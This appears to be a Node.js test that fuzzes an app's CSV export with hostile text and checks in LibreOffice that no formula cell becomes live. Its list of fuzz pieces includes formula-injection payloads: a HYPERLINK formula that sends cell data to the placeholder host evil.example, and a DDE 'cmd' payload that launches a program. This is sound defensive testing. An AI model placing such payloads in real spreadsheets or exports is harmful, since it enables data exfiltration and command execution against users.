// Issue 25, point 1: the quiz's CSV and the summary's combined CSV, opened the way a spreadsheet
// in another locale opens them. LibreOffice's CSV import splits on comma, semicolon AND tab at once
// (formulas evaluated), which covers Excel's `;` locales and tab-separated pastes too. For over a
// thousand generated hostile texts in every text column, count LibreOffice's live formula cells
// (`table:formula` in the .fods it writes) and check that no cell was split; then read both files
// back with our own importers and compare. Needs the build (`dist/`) and `soffice`.
// Run: `node --test test/hostile/csv-libreoffice.node.mjs` (part of `npm run test:node`).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { addNodeFigures } from '../../scripts/hostile-server.mjs';

const root = fileURLToPath(new URL('../../', import.meta.url));
const engine = await import(new URL('dist/engine/index.js', `file://${root}`).href);
const content = await import(new URL('dist/content/index.js', `file://${root}`).href);

/** Separators `,` `;` tab (44/59/9), `"` quotes, UTF-8, English, formulas evaluated. */
const CSV_IN = 'CSV:44/59/9,34,76,1,,1033,false,false,false,false,false,-1,true';
/** LibreOffice's sheet back out as comma CSV, every text cell quoted, to count its cells. */
const CSV_OUT = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true';

const soffice = ['soffice', 'libreoffice'].find(
  (cmd) => spawnSync(cmd, ['--version'], { encoding: 'utf8' }).status === 0,
);
const skip =
  !soffice && process.env.CI !== 'true'
    ? 'soffice (LibreOffice) is not installed: apt-get install -y libreoffice-calc-nogui'
    : false;

/** Pieces attackers join: formula starts, every separator, quotes, apostrophes, lookalikes. */
const piece = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ';',
  ',',
  '"',
  "'",
  "''",
  ' ',
  '1+1',
  'HYPERLINK("https://evil.example/?"&J3&A2&B2,"NHS form")',
  "cmd|' /C calc'!A0",
  'SUM(1;2)',
  'Agreed',
  'See guidance',
  'é',
  '\uFF1D', // fullwidth equals
  '\u202E',
  '\u00A0',
);
const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.array(piece, { minLength: 1, maxLength: 8 }).map((p) => p.join('')) },
  {
    weight: 1,
    arbitrary: fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 30 })
      .filter((s) => !s.includes('\u0000')),
  },
);

const TEXTS_PER_FILE = 27; // organisation, team, 10 notes, 3 plan steps x 3, 3 reviews x 2
const FILES = 40;

/** One result file per 27 texts: every text column of the CSV gets one. */
function resultFiles(texts) {
  const ids = content.foundations.map((f) => f.id);
  const files = [];
  for (let k = 0; k < FILES; k++) {
    const t = texts.slice(k * TEXTS_PER_FILE, (k + 1) * TEXTS_PER_FILE);
    let i = 0;
    const next = () => t[i++];
    const organisation = next();
    const team = `${next()} #${k}`; // distinct teams, so the summary keeps every file
    const answers = Object.fromEntries(
      ids.map((id) => [id, { stage: 'interpret', notes: next() }]),
    );
    const plan = ids.slice(0, 3).map((foundation) => ({
      foundation,
      step: next(),
      lead: next(),
      howWeKnow: next(),
    }));
    const review = {
      earlier: '2025-12-01T09:00:00.000Z',
      steps: ids.slice(5, 8).map((foundation) => ({
        foundation,
        step: next(),
        outcome: 'done',
        note: next(),
      })),
    };
    const file = engine.createResultFile(answers, {
      organisation,
      team,
      createdAt: `2026-02-0${1 + (k % 9)}T09:${String(k).padStart(2, '0')}:00.000Z`,
      plan,
      review,
    });
    // As our own reader gives it back from JSON: the form both CSV readers must give too.
    const parsed = engine.parseResultFile(engine.toJson(file));
    assert.ok(parsed.ok, JSON.stringify(parsed.errors));
    files.push(parsed.value);
  }
  return files;
}

/** Runs LibreOffice once over every CSV in `dir`; returns its output folder. */
function convert(dir, to, infilter) {
  const out = join(dir, to.split(':')[0]);
  mkdirSync(out, { recursive: true });
  const csvs = readdirSync(dir).filter((f) => f.endsWith('.csv'));
  const run = spawnSync(
    soffice,
    [
      `-env:UserInstallation=file://${join(dir, 'profile')}`,
      '--headless',
      `--infilter=${infilter}`,
      '--convert-to',
      to,
      '--outdir',
      out,
      ...csvs.map((f) => join(dir, f)),
    ],
    { encoding: 'utf8', timeout: 300_000 },
  );
  assert.equal(run.status, 0, `soffice failed: ${run.stderr}`);
  return out;
}

test(
  'issue 25 point 1: quiz CSV and combined CSV in LibreOffice (, ; tab, formulas on): 0 live formula cells, no cell split, both import back unchanged',
  { skip, timeout: 600_000 },
  () => {
    assert.ok(soffice, 'CI=true: LibreOffice (soffice) must be installed for this test');
    const texts = fc.sample(hostileText, { numRuns: FILES * TEXTS_PER_FILE, seed: 25 });
    assert.ok(texts.length >= 1000);
    const files = resultFiles(texts);
    const summary = engine.summariseSystem(files);
    assert.equal(summary.teams.length, FILES);

    const dir = mkdtempSync(join(tmpdir(), 'ambitions-csv-'));
    try {
      const written = new Map();
      files.forEach((file, k) => written.set(`quiz-${k}.csv`, engine.toCsv(file)));
      written.set('combined.csv', engine.summaryToCsv(summary));
      for (const [name, csv] of written) writeFileSync(join(dir, name), csv);

      const fods = convert(dir, 'fods', CSV_IN);
      const back = convert(dir, CSV_OUT, CSV_IN);
      let formulas = 0;
      const split = [];
      for (const [name, csv] of written) {
        const sheet = readFileSync(join(fods, name.replace(/csv$/, 'fods')), 'utf8');
        const live = sheet.match(/table:formula="[^"]*"/g) ?? [];
        formulas += live.length;
        if (live.length) console.log(`${name}: ${live.length} live formulas, e.g. ${live[0]}`);
        // LibreOffice's own rows and columns: as many as ours when no quoted cell was split.
        const ours = engine.parseCsv(csv);
        const theirs = engine.parseCsv(readFileSync(join(back, name), 'utf8'));
        const width = Math.max(...ours.map((r) => r.length));
        if (theirs.length !== ours.length || theirs.some((r) => r.length !== width))
          split.push(`${name}: ${theirs.length} rows (ours ${ours.length})`);
      }
      addNodeFigures('csv-libreoffice', {
        'spreadsheet texts': texts.length,
        'formula cells': formulas,
      });
      console.log(
        `LibreOffice opened ${written.size} CSVs holding ${texts.length} hostile texts: ${formulas} live formula cells`,
      );
      assert.equal(formulas, 0, 'live formula cells in LibreOffice');
      assert.deepEqual(split, [], 'cells LibreOffice split apart');

      // Our own readers give every text back unchanged.
      files.forEach((file, k) => {
        const parsed = engine.parseResultCsv(written.get(`quiz-${k}.csv`));
        assert.ok(parsed.ok, `quiz-${k}.csv: ${parsed.errors?.join('; ')}`);
        assert.deepEqual(
          { ...parsed.value, packageVersion: file.packageVersion, notes: file.notes },
          file,
        );
      });
      const combined = engine.readResultText(written.get('combined.csv'), 'combined.csv');
      assert.ok(combined.ok, combined.reason);
      const fromJson = engine.readResultText(engine.summaryToJson(summary), 'combined.json');
      assert.ok(fromJson.ok, fromJson.reason);
      assert.deepEqual(combined.results, fromJson.results);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  },
);
